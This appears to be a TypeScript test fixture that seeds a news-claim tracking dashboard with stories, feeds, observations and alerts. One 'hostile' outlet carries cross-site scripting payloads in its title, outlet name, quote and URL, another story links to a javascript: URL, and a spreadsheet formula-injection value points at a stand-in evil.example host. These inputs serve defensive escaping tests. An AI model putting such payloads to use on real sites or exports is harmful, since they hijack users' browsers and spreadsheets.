// A small story for the dashboard tests, written for them: three outlets, one of them hostile
// (markup in its title, outlet name and quote, a javascript: link, a spreadsheet formula), a
// failing feed, and alerts in three delivery states. Rows go in through the db query functions.
import { loadCatalog } from "@claimwatch/claims";
import {
  type Db,
  insertFeedItem,
  insertObservation,
  markAlertFailed,
  markAlertSent,
  saveArticleRead,
  setObservationAlert,
  updateFeedAfterPoll,
  upsertAlert,
  upsertClaims,
  upsertFeeds,
} from "@claimwatch/db";
import type { ClaimedFigure, Verdict } from "@claimwatch/domain";

export const hostileTitle = `<img src=x onerror="window.__pwned='title'">Crews from Pyongyang <script>window.__pwned='script'</script>`;
export const hostileOutlet = `<b onmouseover="window.__pwned='outlet'">Hostile Wire</b>`;
export const hostileQuote = `Officials put the figure at 30,000 <img src=x onerror="window.__pwned='quote'"> labourers.`;
export const formulaQuote = `=HYPERLINK("http://evil.example/steal","8,600 visas")`;
export const mentionSentence = "Seoul now believes some 30,000 North Korean labourers work on Russian building sites.";

type Story = { title: string; outlet: string; url: string; published: string; body: string; mentions: string[] };

const stories = {
  harbor: {
    title: "Seoul raises its count of labourers sent to Russia",
    outlet: "Harbor Times",
    url: "https://harbor.example/2025/06/10/labourers",
    published: "2025-06-10T09:00:00Z",
    body: `Intelligence officials in Seoul briefed reporters on Tuesday.\n\n${mentionSentence} The briefing gave no breakdown by region.\n\nInjuries from the April strike on Kyiv were put at nearly 90.`,
    mentions: [mentionSentence],
  },
  hostile: {
    title: hostileTitle,
    outlet: hostileOutlet,
    url: "https://hostile.example/story?a=1&b=\"><svg onload=alert(1)>",
    published: "2025-06-17T09:00:00Z",
    body: `Opening words.\n\n${hostileQuote} More text follows.`,
    mentions: [hostileQuote],
  },
  steppe: {
    title: "Builders in the Far East wait for more crews",
    outlet: "Steppe Daily",
    url: "javascript:alert('steppe')",
    published: "2025-06-24T09:00:00Z",
    body: "Roughly 15,000 North Koreans are working in Russia, an official repeated. About 200 firms now hire them.",
    mentions: ["Roughly 15,000 North Koreans are working in Russia, an official repeated."],
  },
} satisfies Record<string, Story>;

export type SeededDashboard = {
  articleIds: Record<keyof typeof stories, number>;
  /** Expected status per claim with coverage; every other catalog claim has none. */
  statuses: Record<string, "confirmed" | "changed" | "conflicting">;
  /** Observations per claim, copies left out. */
  observationCounts: Record<string, number>;
  alertIds: { workers: number; companiesPending: number; companiesFailed: number };
  failingFeedError: string;
};

function figure(claim: string, value: number, quote: string): ClaimedFigure & { claim: string } {
  return { claim, value, low: null, high: null, unit: "count", qualifier: "about", text: String(value), quote, paragraph: 0, start: 0, end: 1 };
}

async function seedFeeds(db: Db): Promise<{ wireId: number; failingFeedError: string }> {
  const [wire, broken] = await upsertFeeds(
    db,
    [
      { url: "https://wire.example/feed.xml", name: "Desk wire" },
      { url: "https://broken.example/rss", name: "Broken feed" },
    ],
    { disableOthers: true },
  );
  const failingFeedError = "HTTP 503 from https://broken.example/rss";
  await updateFeedAfterPoll(db, wire!.id, { status: "ok", lastPolledAt: new Date(), lastSuccessAt: new Date(), nextPollAt: new Date(Date.now() + 600_000) });
  await updateFeedAfterPoll(db, broken!.id, {
    status: "failing",
    lastPolledAt: new Date(),
    lastError: failingFeedError,
    lastErrorKind: "http",
    consecutiveFailures: 3,
    nextPollAt: new Date(Date.now() + 1_800_000),
  });
  return { wireId: wire!.id, failingFeedError };
}

async function seedArticles(db: Db, feedId: number): Promise<Record<keyof typeof stories, number>> {
  const articleIds = {} as Record<keyof typeof stories, number>;
  for (const [key, s] of Object.entries(stories) as [keyof typeof stories, Story][]) {
    const published = new Date(s.published);
    const { articleId } = await insertFeedItem(db, feedId, { url: s.url, canonicalUrl: s.url, guid: key, title: s.title, published, summary: null }, s.outlet);
    await saveArticleRead(db, articleId, {
      title: s.title, publishedAt: published, language: "en", status: "fetched", error: null, isRelevant: true,
      body: s.body, contentHash: `dashboard-fixture-${key}`, figures: [], mentions: s.mentions,
    });
    articleIds[key] = articleId;
  }
  return articleIds;
}

export async function seedDashboard(db: Db): Promise<SeededDashboard> {
  await upsertClaims(db, loadCatalog().claims);
  const { wireId, failingFeedError } = await seedFeeds(db);
  const articleIds = await seedArticles(db, wireId);

  const observe = async (article: keyof typeof stories, claim: string, value: number, quote: string, verdict: Verdict | null) => {
    const row = await insertObservation(db, { articleId: articleIds[article], figure: figure(claim, value, quote), verdict, observedAt: new Date(stories[article].published) });
    if (!row) throw new Error(`fixture observation ${claim}=${value} already exists`);
    return row;
  };
  const raise = async (obs: { id: number }, claim: string, value: number, kind: "change" | "conflict") =>
    (await upsertAlert(db, { claimKey: claim, kind, figure: figure(claim, value, ""), firstObservationId: obs.id })).alert.id;

  // nk_workers_in_russia: one new value (30,000) from two outlets, the baseline repeated by a third.
  const w1 = await observe("harbor", "nk_workers_in_russia", 30000, mentionSentence, "differs");
  const workers = await raise(w1, "nk_workers_in_russia", 30000, "change");
  await setObservationAlert(db, w1.id, workers);
  const w2 = await observe("hostile", "nk_workers_in_russia", 30000, hostileQuote, "differs");
  await setObservationAlert(db, w2.id, workers);
  await observe("steppe", "nk_workers_in_russia", 15000, stories.steppe.mentions[0]!, "agrees");
  await markAlertSent(db, workers, "<fixture-1@claimwatch>");

  // companies_employing: two different new values, so the story conflicts.
  const c1 = await observe("harbor", "companies_employing", 150, "Some 150 companies now employ them.", "differs");
  const companiesPending = await raise(c1, "companies_employing", 150, "change");
  await setObservationAlert(db, c1.id, companiesPending);
  const c2 = await observe("steppe", "companies_employing", 200, "About 200 firms now hire them.", "differs");
  const companiesFailed = await raise(c2, "companies_employing", 200, "conflict");
  await setObservationAlert(db, c2.id, companiesFailed);
  await markAlertFailed(db, companiesFailed, "550 mailbox unavailable");

  await observe("harbor", "kyiv_strike_injured", 90, "Injuries from the April strike on Kyiv were put at nearly 90.", "agrees");
  await observe("hostile", "student_visas_2024", 8600, formulaQuote, "agrees");

  return {
    articleIds,
    statuses: { nk_workers_in_russia: "changed", companies_employing: "conflicting", kyiv_strike_injured: "confirmed", student_visas_2024: "confirmed" },
    observationCounts: { nk_workers_in_russia: 3, companies_employing: 2, kyiv_strike_injured: 1, student_visas_2024: 1 },
    alertIds: { workers, companiesPending, companiesFailed },
    failingFeedError,
  };
}
